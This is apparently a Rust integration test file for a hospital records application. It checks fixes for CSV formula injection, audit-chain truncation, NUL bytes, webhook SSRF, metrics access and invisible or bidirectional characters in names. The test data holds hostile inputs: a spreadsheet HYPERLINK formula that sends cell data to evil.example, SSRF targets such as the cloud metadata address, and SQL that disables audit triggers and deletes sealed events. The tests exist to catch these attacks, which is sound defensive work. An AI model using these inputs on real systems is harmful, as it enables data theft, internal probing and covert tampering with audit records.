//! Issue 10, findings 5, 9, 10, 11, 12 and 16: CSV formula injection and bounded audit values,
//! truncation of the audit chain's tail, NUL bytes at the edge, webhook SSRF, `/metrics` access,
//! and invalid UTF-8 or invisible characters in names.

use std::process::Command;
use std::time::Duration;

use axum::body::Body;
use axum::http::{header, Method, Request, StatusCode};
use hearth::platform::audit::{self, AuditMeta, Event};
use hearth::platform::jobs::{self, Opts, Worker};
use serde_json::json;
use sqlx::Executor;

use crate::fakes::{eventually, HttpServer};
use crate::helpers::*;

fn hearth_cli(app: &TestApp, args: &[&str]) -> (i32, String) {
    let dir = std::env::temp_dir().join(format!("hearth-cli-{}", uuid::Uuid::new_v4()));
    let out = Command::new(env!("CARGO_BIN_EXE_hearth"))
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", server_url(&app.db_name))
        .env("HEARTH_MASTER_KEY", MASTER_KEY)
        .env("HEARTH_DATA_DIR", &dir)
        .env("RUST_LOG", "warn")
        .output()
        .expect("run hearth");
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

/// The `SEQ:HASH` that `hearth audit verify` printed.
fn printed_head(out: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix("audit head "))
        .unwrap_or_else(|| panic!("no head printed: {out}"))
        .trim()
        .to_string()
}

async fn write_events(app: &TestApp, n: usize) {
    for i in 0..n {
        audit::record_now(&app.pool, &AuditMeta::system("test"), Event::new("test.event", "thing", i)).await.unwrap();
    }
}

// ---- finding 5: CSV formula injection, unbounded audit values -------------------------------

#[tokio::test]
async fn the_token_endpoint_refuses_formula_and_oversized_identifiers_before_logging_them() {
    let app = TestApp::new().await;
    let token = |body: serde_json::Value| {
        let mut a = app.another_client();
        async move { a.api(Method::POST, "/api/v1/auth/token", None, Some(body)).await }
    };
    for cid in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")".to_string(), "a".repeat(5000)] {
        let r = token(json!({"grant_type": "client_credentials", "client_id": cid, "client_secret": "x"})).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
        assert!(r.content_type().starts_with("application/problem+json"));
    }
    let r = token(json!({"email": format!("{}@x.example", "a".repeat(5000)), "password": "x"})).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert_eq!(app.audit_count("auth.client_failed").await, 0, "nothing of it was logged");
    let longest: Option<i32> = sqlx::query_scalar(
        "SELECT max(greatest(length(actor_label), length(coalesce(entity_id, '')))) FROM audit_events",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert!(longest.unwrap_or(0) < 100, "{longest:?}");
    // A well-formed but unknown client is still refused with 401 and audited.
    let r =
        token(json!({"grant_type": "client_credentials", "client_id": "hc_0123456789abcdef", "client_secret": "x"}))
            .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert_eq!(app.audit_count("auth.client_failed").await, 1);
}

#[tokio::test]
async fn every_value_reaching_the_audit_log_is_bounded() {
    let app = TestApp::new().await;
    // Whatever a caller passes, the stored values are bounded.
    let meta = AuditMeta {
        actor_label: "L".repeat(5000),
        user_agent: Some("U".repeat(5000)),
        request_id: Some("R".repeat(5000)),
        ..Default::default()
    };
    audit::record_now(
        &app.pool,
        &meta,
        Event::new("test.long", "thing", "E".repeat(5000)).changes(json!({"note": "N".repeat(50_000)})),
    )
    .await
    .unwrap();
    let (label, entity, ua, rid, note): (i32, i32, i32, i32, i32) = sqlx::query_as(
        "SELECT length(actor_label), length(entity_id), length(user_agent), length(request_id), length(changes->>'note')
         FROM audit_events WHERE action = 'test.long'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!((label, entity, ua, rid), (200, 200, 400, 100));
    assert_eq!(note, 4000);
}

#[tokio::test]
async fn the_csv_export_writes_formula_cells_as_text() {
    let (mut app, _) = TestApp::signed_in("hospital_admin").await;
    // Cells a spreadsheet would evaluate are written as text.
    for (i, planted) in ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
        .into_iter()
        .enumerate()
    {
        audit::record_now(
            &app.pool,
            &AuditMeta::system(planted),
            Event::new("test.csv", planted, format!("{planted}{i}")),
        )
        .await
        .unwrap();
    }
    let csv = app.get("/audit/export.csv?action=test.csv").await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut rdr = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
    let mut rows = 0;
    for rec in rdr.records() {
        let rec = rec.unwrap();
        rows += 1;
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell reached the export: {cell:?} in {rec:?}"
            );
        }
        assert!(rec[2].starts_with('\''), "the actor label is neutralised: {:?}", &rec[2]);
    }
    assert_eq!(rows, 6);
}

// ---- finding 9: the audit chain's tail --------------------------------------------------------

#[tokio::test]
async fn audit_verify_with_an_expected_head_detects_removal_of_the_newest_events_and_seals() {
    let app = TestApp::new().await;
    write_events(&app, 3).await;
    let (code, out) = hearth_cli(&app, &["audit", "verify"]);
    assert_eq!(code, 0, "{out}");
    let older = printed_head(&out);
    assert!(older.starts_with("3:") && older.len() == 2 + 64, "{older}");
    write_events(&app, 3).await;
    let (code, out) = hearth_cli(&app, &["audit", "verify", "--expect-head", &older]);
    assert_eq!(code, 0, "{out}");
    let head = printed_head(&out);
    assert!(head.starts_with("6:"), "{head}");

    // A DBA disables the triggers and deletes the newest events with their seals: what is left
    // is a consistent, shorter chain.
    let mut conn = app.pool.acquire().await.unwrap();
    conn.execute("ALTER TABLE audit_events DISABLE TRIGGER audit_events_no_update").await.unwrap();
    conn.execute("ALTER TABLE audit_seals DISABLE TRIGGER audit_seals_no_update").await.unwrap();
    conn.execute("DELETE FROM audit_events WHERE id IN (SELECT event_id FROM audit_seals WHERE seq > 4)")
        .await
        .unwrap();
    conn.execute("DELETE FROM audit_seals WHERE seq > 4").await.unwrap();
    let (code, out) = hearth_cli(&app, &["audit", "verify"]);
    assert_eq!(code, 0, "without a recorded head the chain looks intact: {out}");
    assert!(printed_head(&out).starts_with("4:"));
    // The head recorded outside the database shows it.
    let (code, out) = hearth_cli(&app, &["audit", "verify", "--expect-head", &head]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("BROKEN") && out.contains("ends at seal 4") && out.contains("removed"), "{out}");
    // An older head that is still there passes; a rewritten one does not.
    assert_eq!(hearth_cli(&app, &["audit", "verify", "--expect-head", &older]).0, 0);
    let forged = format!("3:{}", "00".repeat(32));
    let (code, out) = hearth_cli(&app, &["audit", "verify", "--expect-head", &forged]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("rewritten"), "{out}");
    let (code, out) = hearth_cli(&app, &["audit", "verify", "--expect-head", "nonsense"]);
    assert_eq!(code, 2, "{out}");
}

#[tokio::test]
async fn audit_verify_fails_on_a_gap_in_the_seal_numbers() {
    let app = TestApp::new().await;
    write_events(&app, 4).await;
    audit::seal_all(&app.pool).await.unwrap();
    let mut conn = app.pool.acquire().await.unwrap();
    conn.execute("ALTER TABLE audit_seals DISABLE TRIGGER audit_seals_no_update").await.unwrap();
    // The links stay intact; only the numbering jumps (as when seals were removed and the rest
    // re-linked).
    conn.execute("UPDATE audit_seals SET seq = seq + 10 WHERE seq > 2").await.unwrap();
    let (code, out) = hearth_cli(&app, &["audit", "verify"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("seal numbers jump from 2 to 13"), "{out}");
}

#[tokio::test]
async fn the_sealing_queue_only_lets_the_sealer_remove_entries_and_lost_events_fail_verify() {
    let app = TestApp::new().await;
    write_events(&app, 3).await;
    for sql in ["DELETE FROM audit_unsealed", "TRUNCATE audit_unsealed", "UPDATE audit_unsealed SET event_id = 0"] {
        let e = sqlx::query(sql).execute(&app.pool).await.unwrap_err();
        assert!(e.to_string().contains("only the sealer"), "{sql}: {e}");
    }
    // Someone able to bypass the events' trigger deletes a queued, not yet sealed event: the
    // sealer notices and verify fails.
    let victim: i64 =
        sqlx::query_scalar("SELECT max(event_id) FROM audit_unsealed").fetch_one(&app.pool).await.unwrap();
    let mut conn = app.pool.acquire().await.unwrap();
    conn.execute("ALTER TABLE audit_events DISABLE TRIGGER audit_events_no_update").await.unwrap();
    sqlx::query("DELETE FROM audit_events WHERE id = $1").bind(victim).execute(&mut *conn).await.unwrap();
    assert_eq!(audit::seal_all(&app.pool).await.unwrap(), 3);
    let queued: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_unsealed").fetch_one(&app.pool).await.unwrap();
    assert_eq!(queued, 0, "the sealer's own deletes pass the guard");
    let (code, out) = hearth_cli(&app, &["audit", "verify"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains(&format!("BROKEN at event {victim}")) && out.contains("before it was sealed"), "{out}");
}

#[tokio::test]
async fn the_head_is_published_on_a_schedule_to_signed_webhooks() {
    let hook = HttpServer::start().await;
    hook.answer(204, "");
    let (mut admin, _) = TestApp::signed_in("hospital_admin").await;
    let r = admin
        .post_form("/admin/webhooks", &[("name", "Notary"), ("url", &hook.url("/head")), ("event_types", "audit.head")])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    write_events(&admin, 2).await;
    let report = audit::verify(&admin.pool).await.unwrap();
    let head = report.head.expect("a head").to_string();
    assert!(hearth::platform::jobs::builtin_schedules().iter().any(|s| s.kind == "audit.publish_head"));
    let mut tx = admin.pool.begin().await.unwrap();
    jobs::enqueue(&mut tx, "audit.publish_head", json!(null), Opts::default()).await.unwrap();
    tx.commit().await.unwrap();
    let w = Worker::new(admin.state.clone()).poll(Duration::from_millis(20));
    eventually(10, "the head webhook", || async {
        w.run_once().await.unwrap();
        (hook.count() == 1).then_some(())
    })
    .await;
    let req = hook.last();
    assert_eq!(req.headers.get("x-hearth-event").unwrap(), "audit.head");
    assert!(req.headers.get("x-hearth-signature").unwrap().to_str().unwrap().starts_with("sha256="));
    let body: serde_json::Value = serde_json::from_str(&req.body).unwrap();
    assert_eq!(body["data"]["head"], head.as_str());
}

// ---- finding 10: NUL bytes -----------------------------------------------------------------

#[tokio::test]
async fn a_nul_byte_anywhere_is_refused_with_400_at_the_edge() {
    let (mut app, email) = TestApp::signed_in("doctor").await;
    let pid = app.register_patient(&[("given_name", "Nul"), ("family_name", "Test"), ("sex", "female")]).await;
    for path in [
        "/patients?q=%00".to_string(),
        "/patients?q=a%00b".to_string(),
        "/search?q=%00".to_string(),
        "/search/suggest?q=%00".to_string(),
        "/icd10/search?q=%00".to_string(),
        format!("/patients/{pid}/chart?x=%00"),
        "/patients/%00/chart".to_string(),
    ] {
        let r = app.get(&path).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert!(r.content_type().starts_with("text/html"), "{path}");
        assert!(r.body.contains("NUL"), "{path}");
    }
    let before = app.patient_count().await;
    let r = app.post_form("/patients", &[("given_name", "A\0B"), ("family_name", "C"), ("sex", "female")]).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert_eq!(app.patient_count().await, before);

    let token = app.api_token(&email).await;
    for path in ["/api/v1/patients?q=%00", "/api/v1/icd10?q=%00"] {
        let r = app.api(Method::GET, path, Some(&token), None).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert!(r.content_type().starts_with("application/problem+json"), "{path}");
    }
    let base = format!("/api/v1/patients/{pid}");
    for (path, body) in [
        (format!("{base}/notes"), json!({"title": "T\u{0}", "body": "x"})),
        (format!("{base}/allergies"), json!({"substance": "pea\u{0}nut", "severity": "mild"})),
        ("/api/v1/patients".to_string(), json!({"given_name": "A\u{0}", "family_name": "B", "sex": "male"})),
    ] {
        let r = app.api(Method::POST, &path, Some(&token), Some(body)).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert!(r.content_type().starts_with("application/problem+json"), "{path}");
    }
    // `\\u0000` is a backslash and text, not a NUL: not refused by the guard.
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/auth/token")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(r#"{"email":"x\\u0000@x.example","password":"nope"}"#))
        .unwrap();
    assert_eq!(app.request(req).await.status, StatusCode::UNAUTHORIZED);
    let notes: i64 = sqlx::query_scalar("SELECT count(*) FROM notes").fetch_one(&app.pool).await.unwrap();
    let allergies: i64 = sqlx::query_scalar("SELECT count(*) FROM allergies").fetch_one(&app.pool).await.unwrap();
    assert_eq!((notes, allergies, app.patient_count().await), (0, 0, before));
}

// ---- finding 11: webhook SSRF ----------------------------------------------------------------

#[tokio::test]
async fn internal_webhook_targets_are_refused_outside_production_and_at_connect_time() {
    let hook = HttpServer::start().await;
    let mut app = TestApp::with_config(&[("HEARTH_ALLOW_PRIVATE_WEBHOOKS", "false")]).await;
    let email = app.user("super_admin").await;
    app.login(&email, PASSWORD).await;
    for url in [
        hook.url("/h"),
        format!("http://localhost:{}/h", hook.port),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        "http://[::ffff:127.0.0.1]/h".to_string(),
        "http://[::1]/h".to_string(),
        "http://10.0.0.8/h".to_string(),
        "http://0.0.0.0/h".to_string(),
    ] {
        let r =
            app.post_form("/admin/webhooks", &[("name", "x"), ("url", &url), ("event_types", "webhook.test")]).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{url}");
    }
    let n: i64 = sqlx::query_scalar("SELECT count(*) FROM webhook_subscribers").fetch_one(&app.pool).await.unwrap();
    assert_eq!(n, 0);
    // The client itself refuses to connect to an internal address, whatever the name resolved
    // to when it was checked (DNS rebinding): nothing reaches the listener.
    for url in [hook.url("/h"), format!("http://localhost:{}/h", hook.port)] {
        let e = app.state.http.post(&url, &[], b"{}".to_vec()).await.unwrap_err();
        assert!(e.refused_target(), "{url}: {e}");
    }
    assert_eq!(hook.count(), 0);
    // The opt-in for local testing is refused in production.
    let e = hearth::config::Config::from_lookup(|k| match k {
        "HEARTH_ENV" => Some("production".into()),
        "HEARTH_MASTER_KEY" => Some(MASTER_KEY.into()),
        "HEARTH_BASE_URL" => Some("https://hearth.example".into()),
        "HEARTH_ALLOW_PRIVATE_WEBHOOKS" => Some("true".into()),
        _ => None,
    })
    .unwrap_err();
    assert!(e.to_string().contains("HEARTH_ALLOW_PRIVATE_WEBHOOKS"), "{e}");
}

// ---- finding 12: /metrics ------------------------------------------------------------------

#[tokio::test]
async fn metrics_answer_only_the_scraper_token() {
    let mut app = TestApp::new().await;
    let r = app.get("/metrics").await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(r.headers.get(header::WWW_AUTHENTICATE).is_some());
    assert!(!r.body.contains("hearth_http_requests_total"));
    for bad in ["Bearer wrong-token-0123456789", "Basic dGVzdA==", "Bearer "] {
        let req = app.builder(Method::GET, "/metrics").header(header::AUTHORIZATION, bad).body(Body::empty()).unwrap();
        assert_eq!(app.request(req).await.status, StatusCode::UNAUTHORIZED, "{bad}");
    }
    let r = app.metrics().await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.contains("hearth_http_requests_total"));
    // Without a configured token there is no metrics endpoint at all.
    let mut off = TestApp::with_config(&[("HEARTH_METRICS_TOKEN", "")]).await;
    assert_eq!(off.get("/metrics").await.status, StatusCode::NOT_FOUND);
    assert_eq!(off.metrics().await.status, StatusCode::NOT_FOUND);
}

// ---- finding 16: invalid UTF-8 and invisible or direction-changing names --------------------

#[tokio::test]
async fn invalid_utf8_and_invisible_or_bidi_names_are_refused() {
    let (mut app, email) = TestApp::signed_in("receptionist").await;
    let token = app.csrf().await;
    let r =
        app.post_raw("/patients", &format!("csrf_token={token}&given_name=%FF%FE&family_name=Lee&sex=female")).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(r.body.contains("UTF-8"));
    assert_eq!(app.patient_count().await, 0, "nothing stored");

    for (field, value, says) in [
        ("given_name", "\u{200B}\u{200B}", "visible letter"),
        ("given_name", "\u{FEFF}", "visible letter"),
        ("family_name", "Lee\u{202E}reveR", "direction"),
        ("family_name", "\u{2066}Lee\u{2069}", "direction"),
        ("given_name", "A\u{200F}nn", "direction"),
    ] {
        let mut fields = vec![("given_name", "Ann"), ("family_name", "Lee"), ("sex", "female")];
        fields.retain(|(k, _)| *k != field);
        fields.push((field, value));
        let r = app.post_form("/patients", &fields).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{field}={value:?}");
        assert!(r.body.contains(says), "{field}={value:?}: field message");
    }
    let r = app
        .post_form(
            "/patients",
            &[
                ("given_name", "Ann"),
                ("family_name", "Lee"),
                ("sex", "female"),
                ("emergency_name", "\u{200B}"),
                ("emergency_phone", "+15551234567"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "emergency contact name");
    assert_eq!(app.patient_count().await, 0);
    // The JSON API uses the same validator.
    let tok = app.api_token(&email).await;
    let r = app
        .api(
            Method::POST,
            "/api/v1/patients",
            Some(&tok),
            Some(json!({"given_name": "\u{200B}", "family_name": "Lee", "sex": "female"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    // Real names of every script still register.
    for (g, f) in [("Zoë", "O'Brien-Núñez"), ("محمد", "علي"), ("李", "小龍"), ("Mehr\u{200C}dad", "Karimi")]
    {
        app.register_patient(&[("given_name", g), ("family_name", f), ("sex", "male")]).await;
    }
    assert_eq!(app.patient_count().await, 4);

    // Staff display names.
    let (mut admin, _) = TestApp::signed_in("super_admin").await;
    for name in ["\u{200B}\u{200D}", "Eve\u{202E}nimda"] {
        let r = admin
            .post_form("/admin/users", &[("email", "new.user@test.hearth"), ("display_name", name), ("roles", "nurse")])
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?}");
    }
    let n: i64 = sqlx::query_scalar("SELECT count(*) FROM users WHERE email = 'new.user@test.hearth'")
        .fetch_one(&admin.pool)
        .await
        .unwrap();
    assert_eq!(n, 0);
}
